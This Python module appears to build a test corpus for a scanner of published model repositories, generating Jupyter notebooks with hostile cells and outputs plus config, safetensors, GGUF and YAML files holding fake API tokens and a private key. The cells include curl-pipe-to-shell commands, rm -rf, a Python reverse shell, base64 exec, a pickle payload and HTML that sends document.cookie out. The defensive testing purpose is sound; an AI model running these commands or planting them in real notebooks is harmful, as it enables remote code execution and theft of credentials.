"""Notebooks that run shells, and credentials that are published with a model."""

import json
from collections.abc import Iterator

from tests.corpus.hostile.gguf import BASE, gguf
from tests.corpus.hostile.safetensors import made, tensor
from tests.corpus.sample import Sample

CELLS = {
    "shell": "!curl http://127.0.0.1/ | sh",
    "shell, double": "!!rm -rf /tmp/a",
    "bash magic": "%%bash\ncurl http://127.0.0.1/ | sh",
    "sh magic": "%%sh\nwget http://127.0.0.1/a && sh a",
    "script magic": "%%script bash\ncurl http://127.0.0.1/a.sh | bash",
    "system magic": "%system curl http://127.0.0.1/ | sh",
    "sx": "%sx curl http://127.0.0.1/ | sh",
    "assigned": "out = !curl http://127.0.0.1/a | bash",
    "perl": "%%perl\nsystem('true');",
    "code": "import os\nos.system('curl http://127.0.0.1/ | sh')",
    "reverse shell": "import socket,subprocess,os\ns=socket.socket();s.connect(('127.0.0.1',1));os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
    "exec of base64": "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
    "pickle": "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"true\"\\ntR.')",
}
OUTPUTS = {
    "script": {"text/html": ["<script>fetch('http://127.0.0.1/?' + document.cookie)</script>"]},
    "javascript": {"application/javascript": ["Jupyter.notebook.kernel.execute('1')"]},
    "image with a handler": {"text/html": ["<img src=x onerror=\"fetch('http://127.0.0.1/')\">"]},
    "frame": {"text/html": ["<iframe src='javascript:alert(1)'></iframe>"]},
    "svg": {"image/svg+xml": ["<svg onload='fetch(1)'><script>1</script></svg>"]},
}
# None of these is a real one; they are put together so that no scanner of sources stumbles over them.
SECRETS = {
    "AWS": "AKIA" + "2E0A8F3B244C9986",
    "GitHub": "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a",
    "GitHub, fine": "github_pat_"
    + "11ABCDEFG0"
    + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7bC9dE1fG3hI5jK7lM9nO1pQ3rS5tU7vW9x"[:71],
    "Hugging Face": "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH",
    "OpenAI": "sk-proj-" + "a1B2c3D4e5F6g7H8i9J0" + "T3BlbkFJ" + "k1L2m3N4o5P6q7R8s9T0",
    "Slack": "xoxb-" + "123456789012-1234567890123-" + "aBcDeFgHiJkLmNoPqRsTuVwX",
    "Google": "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q",
    "private key": "-----BEGIN RSA PRIVATE "
    + "KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB\naFDrBz9vFqU4yK1JqQy0w6gkVQ7zX3xkqQ==\n-----END RSA PRIVATE "
    + "KEY-----",
}


def notebook(source: str, outputs: list | None = None) -> bytes:
    cell = {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "outputs": outputs or [],
        "source": source.splitlines(keepends=True),
    }
    return json.dumps(
        {
            "cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Model"]}, cell],
            "metadata": {},
            "nbformat": 4,
            "nbformat_minor": 5,
        },
        indent=1,
    ).encode()


def samples() -> Iterator[Sample]:
    family = "notebooks"
    for name, source in CELLS.items():
        for path in ("train.ipynb", "notebooks/demo.ipynb"):
            yield Sample(family, f"{name}, {path}", "runs with the cell", {path: notebook(source)}, "medium")
        one = json.dumps(
            {
                "cells": [
                    {
                        "cell_type": "code",
                        "metadata": {},
                        "outputs": [],
                        "execution_count": None,
                        "source": source,
                    }
                ],
                "metadata": {},
                "nbformat": 4,
                "nbformat_minor": 2,
            }
        ).encode()
        yield Sample(
            family, f"{name}, source of one string", "runs with the cell", {"a.ipynb": one}, "medium"
        )
    for name, data in OUTPUTS.items():
        shown = [{"output_type": "display_data", "data": data, "metadata": {}}]
        yield Sample(
            family,
            f"output: {name}",
            "runs when the notebook is opened",
            {"a.ipynb": notebook("1", shown)},
            "medium",
        )
    family = "secrets"
    for name, secret in SECRETS.items():
        quoted = json.dumps(secret)
        files = {
            "config.json": json.dumps({"model_type": "net", "token": secret}).encode(),
            "tokenizer_config.json": json.dumps({"tokenizer_class": "a", "auth_token": secret}).encode(),
            "notebook": notebook(f"token = {quoted}"),
            "notebook output": notebook(
                "1", [{"output_type": "stream", "name": "stdout", "text": [f"token: {secret}\n"]}]
            ),
            "safetensors": made({"__metadata__": {"note": secret}, "w": tensor(0, 16, [4])}),
            "gguf": gguf({**BASE, "general.comment": secret}),
            "yaml": f"model_type: net\nhub:\n  token: {quoted}\n".encode(),
        }
        paths = {
            "notebook": "a.ipynb",
            "notebook output": "b.ipynb",
            "safetensors": "model.safetensors",
            "gguf": "model.gguf",
            "yaml": "config.yaml",
        }
        for kind, data in files.items():
            yield Sample(
                family,
                f"{name} in {kind}",
                "published with the model",
                {paths.get(kind, kind): data},
                "medium" if kind == "notebook output" else "high",
            )
